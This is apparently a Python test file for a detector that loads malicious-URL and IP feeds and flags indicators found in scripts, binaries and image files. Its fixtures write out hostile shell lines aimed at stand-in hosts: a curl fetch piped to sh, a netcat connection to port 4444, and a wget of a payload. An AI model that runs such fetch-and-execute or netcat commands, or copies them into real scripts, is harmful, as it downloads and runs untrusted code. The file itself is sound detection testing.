"""Malicious URLs and IPs: feed formats, lookups, extraction from text and binaries, the stored feed file."""

from __future__ import annotations

from pathlib import Path

from services.engine.analyze import analyze
from services.engine.content.netioc.analyzer import NetIocAnalyzer
from services.engine.content.netioc.feeds import FeedIndex, load_feed
from services.engine.content.netioc.store import load_index, update_feeds
from tests.engine.memimage import Entry, Layer, MemoryImage

TESTDATA = Path(__file__).parent / "testdata"


def _feed(name: str):  # type: ignore[no-untyped-def]
    return load_feed(name, (TESTDATA / name).read_bytes())


def test_three_feed_formats() -> None:
    csv = _feed("urlhaus.csv")
    assert csv.urls == ["http://malware.assay-fixture.invalid/payload", "https://198.51.100.23/bins/x86"]
    assert csv.problems == []
    drop = _feed("drop.txt")
    assert drop.networks == ["203.0.113.0/24", "2001:db8:dead::/48"]
    lines = _feed("domains.txt")
    assert lines.domains == ["evil.assay-fixture.invalid"]
    assert lines.urls == ["http://phish.example.invalid/login"]
    assert lines.networks == ["192.0.2.66/32"]
    assert lines.problems == [
        "domains.txt: line 5: not a URL, domain, IP address or CIDR: 'not a valid entry here'"
    ]


def test_index_lookups() -> None:
    index = FeedIndex([_feed("urlhaus.csv"), _feed("drop.txt"), _feed("domains.txt")])
    assert index.url("HTTP://Malware.assay-fixture.invalid/payload/") == "urlhaus.csv"
    assert index.domain("cdn.evil.assay-fixture.invalid") == "domains.txt"
    assert index.domain("assay-fixture.invalid") is None
    assert index.address("203.0.113.66") == "drop.txt"
    assert index.address("2001:db8:dead:1::5") == "drop.txt"
    assert index.address("192.0.2.66") == "domains.txt"
    assert index.address("192.0.2.67") is None
    assert index.address("8.8.8.8") is None


def test_extraction_from_text_and_binaries() -> None:
    analyzer = NetIocAnalyzer(FeedIndex([_feed("urlhaus.csv"), _feed("drop.txt"), _feed("domains.txt")]))
    script = (
        b"#!/bin/sh\ncurl -s http://malware.assay-fixture.invalid/payload | sh\n"
        b"nc 203.0.113.66 4444\nping evil.assay-fixture.invalid\nversion=1.2.3.4567\n"
    )
    found = {(d.category, d.evidence, d.source) for d in analyzer.scan_bytes(script)}
    assert found == {
        ("MaliciousURL", "http://malware.assay-fixture.invalid/payload", "urlhaus.csv"),
        ("MaliciousIP", "203.0.113.66", "drop.txt"),
        ("MaliciousURL", "evil.assay-fixture.invalid", "domains.txt"),
    }
    binary = b"\x7fELF\0\0\0" + b"\0" * 64 + b"https://198.51.100.23/bins/x86\0 203.0.113.9 \0"
    found_bin = {(d.category, d.evidence) for d in analyzer.scan_bytes(binary)}
    assert found_bin == {("MaliciousURL", "https://198.51.100.23/bins/x86")}  # bare addresses: text only
    assert analyzer.scan_bytes(b"see https://example.org and 10.0.0.1") == []


async def test_stored_feeds_drive_a_walk_and_no_feeds_asks_for_no_files(tmp_path: Path) -> None:
    store = tmp_path / "feeds.json"
    feeds = await update_feeds([str(TESTDATA / "urlhaus.csv"), str(TESTDATA / "drop.txt")], store)
    assert [f.name for f in feeds] == ["urlhaus.csv", "drop.txt"]
    index = load_index(store)
    image = MemoryImage(
        [Layer([Entry("opt/app/start.sh", b"wget http://malware.assay-fixture.invalid/payload\n")])]
    )
    analysis = await analyze(image, (), (NetIocAnalyzer(index),))
    assert [(d.path, d.category) for d in analysis.detections] == [("/opt/app/start.sh", "MaliciousURL")]
    assert NetIocAnalyzer(load_index(tmp_path / "absent.json")).requests == ()
